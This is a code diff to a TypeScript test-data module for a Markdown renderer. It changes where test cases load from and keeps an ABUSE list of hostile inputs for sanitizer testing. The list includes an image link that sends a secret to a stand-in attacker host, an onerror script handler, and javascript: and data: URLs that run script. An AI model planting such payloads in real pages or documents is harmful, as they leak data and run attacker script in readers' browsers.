@@ -1,22 +1,15 @@
-// The shared test data, which lives beside the project; npm's commonmark-spec is always there.
+// The texts that rendering is tried on: the project's own, and CommonMark's from npm.
 import { createRequire } from "node:module";
-import { existsSync, readFileSync } from "node:fs";
-import { join } from "node:path";
-import { fileURLToPath } from "node:url";
-
-const folder = process.env.INGLENOOK_CORPORA ?? fileURLToPath(new URL("../../../shared/corpora", import.meta.url));
+import { readFileSync } from "node:fs";
 
 export interface Case {
   class?: string;
   markdown: string;
 }
 
-/** The cases of a file; none, after a line that says so, where there is no such file. */
-export function corpus(name: string): Case[] {
-  const file = join(folder, name);
-  if (existsSync(file)) return JSON.parse(readFileSync(file, "utf8"));
-  console.log(`no test data at ${file}: set INGLENOOK_CORPORA to run with it`);
-  return [];
+/** The cases of a file of `tests/data`. */
+export function cases(name: string): Case[] {
+  return JSON.parse(readFileSync(new URL(`../../tests/data/${name}`, import.meta.url), "utf8"));
 }
 
 /** CommonMark's own examples. */
@@ -25,7 +18,7 @@ export function commonmark(): Case[] {
   return tests.map((test: Case) => ({ markdown: test.markdown.replaceAll("→", "\t") }));
 }
 
-/** A few inputs that would leak or act, for a clone without the corpora. */
+/** A few inputs that would leak or act, many things in each. */
 export const ABUSE: Case[] = [
   { class: "image", markdown: "![x](https://attacker.example/p.png?q=SECRET) <img src=https://attacker.example/q onerror=alert(1)>" },
   { class: "scheme", markdown: "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>" },
